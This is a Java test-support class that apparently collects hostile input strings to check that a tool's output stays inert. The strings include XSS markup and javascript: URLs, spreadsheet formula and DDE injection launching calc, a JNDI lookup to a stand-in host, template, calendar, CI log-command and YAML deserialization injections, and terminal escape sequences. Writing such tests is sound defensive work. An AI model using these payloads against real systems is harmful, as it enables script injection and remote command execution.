package io.github.clouddisclosure.promises.inert;

import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Texts that a form may take for something else than text, each a text of its own where its beginning matters. */
final class HostileTexts {
    /** What a page runs or loads would ask for this host. */
    static final String HOST = "hostile.invalid";

    private static final String URL = "http://" + HOST + "/";

    private static final List<String> MARKUP = List.of(
            "<script>document.title='run'</script><ScRiPt src=//HOST/s></sCrIpT>",
            "\"><img src=http://HOST/i onerror=\"document.title='run'\"><svg/onload=document.title='run'>",
            "\" onmouseover=\"document.title='run'\" autofocus onfocus=document.title='run' x=\"",
            "' onclick='document.title=1' style='background:url(http://HOST/b)' y='",
            "` onclick=`document.title=1` <a href=javascript:document.title='run'>x</a>",
            "</style><style>@import 'http://HOST/c';</style>",
            "</title></head><body onload=document.title='run'></body></html>",
            "<!-- --!> --> <!--> ]]> <![CDATA[x]]> <?php echo 1 ?> <!DOCTYPE x [<!ENTITY e SYSTEM \"http://HOST/e\">]> &e;",
            "</td></tr></table><iframe srcdoc='<script>parent.document.title=1</script>'></iframe><form action=http://HOST/f>",
            "<meta http-equiv=refresh content='0;url=http://HOST/m'><base href=http://HOST/><link rel=stylesheet href=http://HOST/l>",
            "&lt;script&gt;&#60;script&#62;&#x3c;img src=x&#x3e; &amp;lt;b&gt; \u00bcscript\u00be \uff1cscript\uff1e",
            "</textarea></noscript></xmp></svg><math><mtext><mglyph><style><img src=x onerror=document.title='run'>");

    private static final List<String> ADDRESSES = List.of(
            "javascript:document.title='run'",
            "JaVaScRiPt:document.title='run'",
            "java\tscript:document.title='run'",
            "java\nscript:document.title='run'",
            " \u0001javascript:document.title='run'",
            "javascript&colon;document.title='run' &#106;avascript:1 java&Tab;script:1",
            "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:document.title='run'",
            "javascript\uff1adocument.title='run'",
            "data:text/html,<script>document.title='run'</script>",
            "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "//HOST/x",
            "http://HOST/\"onmouseover=document.title='run'//'`<b>",
            "https://HOST/a?b=<script>&c=\u202ecod.exe#\"",
            "http://javascript:1@HOST/ https://HOST\\@x.example/ mailto:a@HOST?body=\"<b>");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://HOST/\",\"x\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n+1+1",
            " =1+1",
            "\u00a0=1+1",
            "\u3000-1+1",
            "\uff1d1+1",
            "\uff0b1+1",
            "\uff0d1+1",
            "\uff20SUM(1,1)",
            "\u22121+1",
            "'=1+1",
            "\"=1+1\"",
            "\"\",=1+1",
            "\ufeff=1+1",
            "\u200b=1+1",
            "\u0000=1+1",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "x\",=1+1,\"\n=1+1",
            "1;=1+1\t=1+1");

    private static final List<String> MARKDOWN = List.of(
            "[x](javascript:document.title) ![x](http://HOST/i) [x]: http://HOST/ <javascript:1> <http://HOST/>",
            "| a | b |\n|---|---|\n| c | d |",
            "\\| \\[x](http://HOST/) \\\\[y](http://HOST/) \\`z` ``a|b`` ~~d~~ **e** _f_ ***",
            "\n\n# heading\n\n- item\n\n> quote\n\n    code\n\n```\nfence\n```\n<div onclick=x>\n\n---\n",
            "[x]: http://HOST/ \"t\"\n[x] ![x][x] [^1] :tada: @everyone #1 www.HOST a@HOST $x$ $$y$$",
            "- [ ] task",
            "1. one",
            "===",
            "> q",
            "# h",
            "```sh");

    private static final List<String> TERMINAL = List.of(
            "\u001b[2J\u001b[8m\u001b]0;title\u0007\u001b]8;;http://HOST/\u001b\\x\u001b]8;;\u001b\\",
            "\u001b]52;c;ZWNobyAx\u0007\u009b31m\u009d0;t\u009c\u0090q\u009c\u001bP1$q\u001b\\\u001bc",
            "a\b\b\bb\rc\u0007\u007f\u0085d\u000be\u000cf",
            "\u202aa\u202bb\u202cc\u202dd\u202ee\u2066f\u2067g\u2068h\u2069i\u200ej\u200fk\u061cl",
            "a\u2028b\u2029c\u200bd\u200ce\u200df\u2060g\ufeffh\u00adi",
            IntStream.range(0, 0xa0).mapToObj(Character::toString).reduce("", String::concat),
            "\ufffe\uffff\ufdd0\ud800x\udc00y\ud83d");

    private static final List<String> INJECTIONS = List.of(
            "{0} {1} {{2}} %s %n %1$s $1 \\1 {message} {jakarta.validation.constraints.NotNull.message}",
            "${7*7} #{7*7} ${validatedValue} ${jndi:ldap://HOST/a} ${env:PATH} ${''.getClass()} $${x} \\${y}",
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x\r\nEND:VEVENT\r\n",
            "x\nATTENDEE;CN=\"y\":mailto:a@HOST\\nBEGIN:VALARM\\;x\\,y",
            "x\"}\n{\"guideline\":\"mic-asp-saas-3\",\"x\":\"",
            "[a](http://HOST/) [b](1) [c](0) [d]\\(1) \\[e](2)",
            "::error file=x::y",
            "\n::set-output name=x::y",
            "x\r::add-mask::y",
            " ::warning::y",
            "##[error]y",
            "\n##vso[task.setvariable variable=x]y",
            "x%0A::error::y%0D%25",
            "x\n- y: &a [*a, *a]\n--- !!java.net.URL [http://HOST/]\n...\n",
            "!!python/object:x",
            "&a x",
            "*a",
            "- x",
            "{x: y}",
            "null",
            "2024-06-12",
            "|",
            "'");

    private HostileTexts() {}

    /** The texts, each alone where it may matter how it begins. */
    static Stream<String> all() {
        List<String> markup = List.of(
                String.join(" ", MARKUP.subList(0, MARKUP.size() / 2)),
                String.join(" ", MARKUP.subList(MARKUP.size() / 2, MARKUP.size())));
        return Stream.of(markup, ADDRESSES, FORMULAS, MARKDOWN, TERMINAL, INJECTIONS)
                .flatMap(List::stream)
                .map(text -> text.replace("HOST", HOST));
    }
}
